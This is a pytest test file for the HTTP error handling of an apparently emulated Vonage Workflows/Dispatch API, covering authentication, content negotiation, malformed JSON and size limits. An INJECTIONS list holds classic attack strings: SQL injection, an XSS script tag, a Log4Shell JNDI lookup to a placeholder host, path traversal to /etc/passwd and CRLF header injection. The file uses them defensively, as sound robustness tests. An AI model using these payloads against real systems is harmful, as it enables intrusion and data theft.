"""HTTP-level errors of the Workflows / Dispatch API, and a corpus of hostile bodies.

Every error is an ``application/problem+json`` 4xx, and a rejected request stores nothing.
"""

import base64
import json

import pytest
from rest_framework.test import APIClient

from tests.conftest import basic_auth
from workflows_app.models import Step, Workflow

from .conftest import ENDPOINTS, problem_of

API_PATHS = list(ENDPOINTS)


def generic_slug(problem: dict) -> str:
    """The slug of a generic Vonage error type (``...api-errors#<slug>``)."""
    prefix = "https://developer.nexmo.com/api-errors#"
    assert problem["type"].startswith(prefix), problem
    return problem["type"].removeprefix(prefix)


# --- 401 -----------------------------------------------------------------------------------------


def _basic(raw: bytes) -> str:
    return "Basic " + base64.b64encode(raw).decode()


@pytest.fixture
def bad_authorizations(account) -> dict[str, str | None]:
    key, secret = account.account.api_key, account.api_secret
    return {
        "missing": None,
        "wrong secret": basic_auth(key, secret + "x"),
        "unknown key": basic_auth("nobody", secret),
        "empty credentials": basic_auth("", ""),
        "no colon": _basic(key.encode()),
        "secret only": basic_auth("", secret),
        "not base64": "Basic !!!notbase64!!!",
        "empty basic": "Basic ",
        "not utf-8": _basic(b"\xff\xfe:\xff"),
        "NUL in the key": basic_auth(key + "\x00", secret),
        "NUL in the secret": basic_auth(key, secret + "\x00"),
        "huge key": basic_auth("k" * 10000, secret),
        "bearer": "Bearer eyJhbGciOiJub25lIn0.e30.",
        "digest": "Digest username=x",
        "scheme only": "Basic",
    }


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_PATHS)
@pytest.mark.parametrize(
    "case",
    [
        "missing",
        "wrong secret",
        "unknown key",
        "empty credentials",
        "no colon",
        "secret only",
        "not base64",
        "empty basic",
        "not utf-8",
        "NUL in the key",
        "NUL in the secret",
        "huge key",
        "bearer",
        "digest",
        "scheme only",
    ],
)
def test_bad_credentials_are_a_401_that_stores_nothing(
    bad_authorizations, store_counts, canonical_request, path, case
):
    client = APIClient()
    headers = {}
    if bad_authorizations[case] is not None:
        headers["HTTP_AUTHORIZATION"] = bad_authorizations[case]
    response = client.post(path, canonical_request, format="json", **headers)
    problem = problem_of(response, 401)
    assert generic_slug(problem) == "unauthorized"
    assert response["WWW-Authenticate"].startswith("Basic")
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
def test_reads_need_credentials_too(api_client, canonical_request):
    created = api_client.post("/beta/workflows", canonical_request, format="json")
    uuid = created.json()["workflow_uuid"]
    anonymous = APIClient()
    problem_of(anonymous.get(f"/beta/workflows/{uuid}"), 401)
    problem_of(anonymous.post(f"/beta/workflows/{uuid}/cancel"), 401)


# --- 405, 406, 415 -------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/messages"),
        ("DELETE", "/v0.1/messages"),
        ("PUT", "/beta/workflows"),
        ("PATCH", "/v0.1/dispatch"),
        ("DELETE", "/v0.1/dispatch"),
        ("POST", "/beta/workflows/00000000-0000-4000-8000-000000000000"),
        ("DELETE", "/beta/workflows/00000000-0000-4000-8000-000000000000"),
        ("GET", "/v0.1/dispatch/00000000-0000-4000-8000-000000000000/cancel"),
        ("PUT", "/v0.1/dispatch/00000000-0000-4000-8000-000000000000/cancel"),
    ],
)
def test_a_wrong_verb_is_a_405(api_client, store_counts, method, path):
    response = api_client.generic(method, path, "{}", content_type="application/json")
    problem = problem_of(response, 405)
    assert generic_slug(problem) == "wrong-verb"
    assert "Allow" in response
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_PATHS)
@pytest.mark.parametrize("accept", ["text/html", "application/xml", "text/plain", "image/*"])
def test_an_accept_header_that_excludes_json_is_a_406(
    post_body, store_counts, canonical_request, path, accept
):
    response = post_body(canonical_request, path=path, HTTP_ACCEPT=accept)
    problem = problem_of(response, 406)
    assert generic_slug(problem) == "accept-header"
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
def test_a_read_with_an_accept_header_that_excludes_json_is_a_406(api_client):
    response = api_client.get(
        "/beta/workflows/00000000-0000-4000-8000-000000000000", HTTP_ACCEPT="text/html"
    )
    problem_of(response, 406)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "accept",
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/*",
        "*/*",
        "text/html, application/json;q=0.5",
    ],
)
def test_json_compatible_accept_headers_are_accepted(post_body, canonical_request, accept):
    response = post_body(canonical_request, HTTP_ACCEPT=accept)
    assert response.status_code == 202, response.content


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_PATHS)
@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xyz",
        "application/xml",
        "application/jsonx",
        "",
    ],
)
def test_a_body_that_is_not_declared_json_is_a_415(
    post_body, store_counts, canonical_request, path, content_type
):
    response = post_body(json.dumps(canonical_request), path=path, content_type=content_type)
    problem = problem_of(response, 415)
    assert generic_slug(problem) == "content-type-header"
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content_type", ["application/json; charset=utf-8", "application/json;charset=UTF-8"]
)
def test_json_with_a_charset_parameter_is_accepted(post_body, canonical_request, content_type):
    response = post_body(canonical_request, content_type=content_type)
    assert response.status_code == 202, response.content


# --- 404 -----------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/beta/workflow",
        "/beta/workflows/",
        "/v0.1/dispatch/",
        "/v1/dispatch",
        "/beta/workflows/00000000-0000-4000-8000-000000000000/cancel/now",
        "/beta/workflows/..%2F..%2Fetc%2Fpasswd",
        "/" + "a" * 5000,
    ],
)
def test_unknown_urls_are_a_problem_404(api_client, path):
    for method in ("get", "post"):
        response = getattr(api_client, method)(path)
        problem = problem_of(response, 404)
        assert generic_slug(problem) == "not-found"


# --- 400 for malformed JSON, 413 for a body over the cap -----------------------------------------

MALFORMED = {
    "empty": b"",
    "whitespace": b"   ",
    "truncated": b'{"template": "failover", "workflow": [',
    "trailing comma": b'{"template": "failover",}',
    "single quotes": b"{'template': 'failover'}",
    "NaN": b'{"template": "failover", "workflow": NaN}',
    "Infinity": b'{"template": "failover", "workflow": -Infinity}',
    "two documents": b"{} {}",
    "comment": b'{"template": "failover" /* hi */}',
    "invalid utf-8": b'{"template": "fail\xffover"}',
    "latin-1": '{"template": "é"}'.encode("latin-1"),
    "utf-16": '{"template": "failover"}'.encode("utf-16"),
    "utf-8 BOM": b'\xef\xbb\xbf{"template": "failover"}',
    "NUL byte outside a string": b'{"template": "failover"}\x00',
    "deep arrays": b"[" * 100_000,
    "deep closed arrays": b"[" * 100_000 + b"]" * 100_000,
    "deep objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a 10000-digit integer": b'{"template": ' + b"9" * 10_000 + b"}",
    "1e400": b'{"template": "failover", "workflow": [{"failover": {"expiry_time": 1e400}}]}',
    "-1e400": b'{"template": -1e400}',
}


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_PATHS)
@pytest.mark.parametrize("case", list(MALFORMED))
def test_malformed_json_is_a_400(post_body, store_counts, path, case):
    response = post_body(MALFORMED[case], path=path)
    problem = problem_of(response, 400)
    assert problem["type"].endswith(("#invalid-json", "#InvalidParams")), problem
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("path", API_PATHS)
def test_a_body_over_the_cap_is_a_413(post_body, store_counts, canonical_request, settings, path):
    canonical_request["client_ref"] = "x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    response = post_body(canonical_request, path=path)
    problem = problem_of(response, 413)
    assert generic_slug(problem) == "payload-too-large"
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
def test_the_cap_comes_from_settings(post_body, store_counts, canonical_request, settings):
    body = json.dumps(canonical_request).encode()
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = len(body)
    assert post_body(body).status_code == 202
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = len(body) - 1
    before = store_counts()
    problem_of(post_body(body), 413)
    assert store_counts() == before


@pytest.mark.django_db
def test_a_huge_body_of_garbage_is_a_413_not_a_parse_error(post_body, settings):
    body = b"\xff" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE * 4)
    problem_of(post_body(body), 413)


# --- a hostile corpus inside otherwise valid requests --------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE workflows_app_workflow; --",
    '"}]}',
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\r\nX-Injected: 1",
    "\u202eevil\u202c",
    "𝕦𝕟𝕚𝕔𝕠𝕕𝕖 🚚 ✔ 中文 العربية",
    "\ufeff",
    "\u2028\u2029",
]
# Fields that take free text: the request must be accepted and the text stored verbatim.
FREE_TEXT_FIELDS = [
    ("workflow", 0, "to", "id"),
    ("workflow", 0, "from", "id"),
    ("workflow", 0, "message", "content", "text"),
    ("workflow", 1, "message", "content", "text"),
]
# Fields with a closed vocabulary: the request must be refused, naming the field.
CLOSED_FIELDS = [
    ("template",),
    ("workflow", 0, "to", "type"),
    ("workflow", 0, "message", "content", "type"),
    ("workflow", 0, "failover", "condition_status"),
    ("workflow", 1, "to", "number"),
]


def _put(body: dict, keys: tuple, value) -> str:
    target = body
    for key in keys[:-1]:
        target = target[key]
    target[keys[-1]] = value
    return "".join(f"[{k}]" if isinstance(k, int) else f".{k}" for k in keys).lstrip(".")


@pytest.mark.django_db
@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("keys", FREE_TEXT_FIELDS, ids=lambda keys: ".".join(map(str, keys)))
def test_hostile_text_is_stored_verbatim(post_body, canonical_request, keys, value):
    _put(canonical_request, keys, value)
    response = post_body(canonical_request)
    assert response.status_code == 202, response.content
    uuid = response.json()["workflow_uuid"]
    step = Workflow.objects.get(id=uuid).steps.get(index=keys[1])
    stored = {"to": step.recipient, "from": step.sender, "message": step.message}[keys[2]]
    for key in keys[3:]:
        stored = stored[key]
    assert stored == value


@pytest.mark.django_db
@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("keys", CLOSED_FIELDS, ids=lambda keys: ".".join(map(str, keys)))
def test_hostile_values_in_closed_fields_are_named(
    post_body, store_counts, canonical_request, keys, value
):
    name = _put(canonical_request, keys, value)
    response = post_body(canonical_request)
    problem_of(response, 400, name)
    assert store_counts() == (0, 0, 0)


# Strings no database column can hold (NUL for PostgreSQL, unpaired surrogates for UTF-8): they
# are refused wherever they appear, naming the field, keys included.
UNSTORABLE = {"NUL": "a\\u0000b", "lone high surrogate": "\\ud800", "lone low surrogate": "\\udfff"}
UNSTORABLE_PLACES = {
    "template": ('{"template": "%s"}', "template"),
    "to.type": (
        '{"template": "failover", "workflow": [{"to": {"type": "%s"}}]}',
        "workflow[0].to.type",
    ),
    "client_ref": ('{"template": "failover", "client_ref": "%s"}', "client_ref"),
    "custom value": (
        '{"template": "failover", "workflow": [{"message": {"content": {"type": "custom", '
        '"custom": {"k": ["%s"]}}}}]}',
        "workflow[0].message.content.custom.k[0]",
    ),
    "custom key": (
        '{"template": "failover", "workflow": [{"message": {"content": {"type": "custom", '
        '"custom": {"%s": 1}}}}]}',
        "workflow[0].message.content.custom",
    ),
    "unknown top-level key": ('{"%s": 1, "template": "failover"}', "body"),
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("char", list(UNSTORABLE))
@pytest.mark.parametrize("place", list(UNSTORABLE_PLACES))
def test_unstorable_strings_are_named_wherever_they_are(
    post_body, store_counts, canonical_request, char, place
):
    template, name = UNSTORABLE_PLACES[place]
    response = post_body(template % UNSTORABLE[char])
    problem_of(response, 400, name)
    assert store_counts() == (0, 0, 0)


def custom_content(raw_json: str) -> str:
    """A ``custom`` content object, as JSON text, wrapping the literal ``raw_json``."""
    return '{"type": "custom", "custom": ' + raw_json + "}"


def _canonical_with(canonical_request, keys: tuple, raw_json: str) -> bytes:
    """The canonical request as bytes with ``keys`` replaced by the literal ``raw_json``."""
    _put(canonical_request, keys, "__HERE__")
    return json.dumps(canonical_request).replace('"__HERE__"', raw_json).encode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("keys", "raw"),
    [
        (("workflow", 0, "failover", "expiry_time"), "1e400"),
        (("workflow", 0, "failover", "expiry_time"), "-1e400"),
        (("workflow", 0, "failover", "expiry_time"), str(10**400)),
        (("workflow", 0, "failover", "expiry_time"), str(-(10**400))),
        (("workflow", 0, "failover", "expiry_time"), "1e308"),
        (("workflow", 0, "failover", "expiry_time"), "1e-400"),
        (("workflow", 0, "failover", "expiry_time"), "600.0000000000001"),
        (("workflow", 0, "failover", "expiry_time"), "9" * 4300),
        (("workflow", 0, "message", "content", "text"), str(10**400)),
        (("workflow", 1, "to", "number"), str(10**400)),
        (("workflow", 0, "message", "content"), '{"type": "custom", "custom": {"n": 1e400}}'),
        (("template",), "1e400"),
    ],
)
def test_enormous_numbers_are_a_400(post_body, store_counts, canonical_request, keys, raw):
    response = post_body(_canonical_with(canonical_request, keys, raw))
    problem_of(response, 400)
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
def test_an_enormous_integer_in_custom_content_is_stored_exactly(post_body, canonical_request):
    body = _canonical_with(
        canonical_request,
        ("workflow", 0, "message", "content"),
        custom_content('{"n": ' + str(10**400) + "}"),
    )
    response = post_body(body)
    assert response.status_code == 202, response.content
    step = Step.objects.get(workflow_id=response.json()["workflow_uuid"], index=0)
    assert step.message["content"]["custom"]["n"] == 10**400


@pytest.mark.django_db
@pytest.mark.parametrize("depth", [50, 200, 900, 5000])
def test_deeply_nested_custom_content_is_a_400(post_body, store_counts, canonical_request, depth):
    nested = "[" * depth + "]" * depth
    body = _canonical_with(
        canonical_request,
        ("workflow", 0, "message", "content"),
        custom_content('{"n": ' + nested + "}"),
    )
    response = post_body(body)
    problem_of(response, 400)
    assert store_counts() == (0, 0, 0)


@pytest.mark.django_db
def test_reasonably_nested_custom_content_is_accepted(post_body, canonical_request):
    nested = '{"a": ' * 10 + "1" + "}" * 10
    body = _canonical_with(
        canonical_request,
        ("workflow", 0, "message", "content"),
        custom_content(nested),
    )
    assert post_body(body).status_code == 202


@pytest.mark.django_db
def test_a_huge_number_of_items_is_refused_quickly(post_body, store_counts, canonical_request):
    canonical_request["workflow"] = [canonical_request["workflow"][0]] * 1000
    response = post_body(canonical_request)
    problem_of(response, 400, "workflow")
    assert store_counts() == (0, 0, 0)
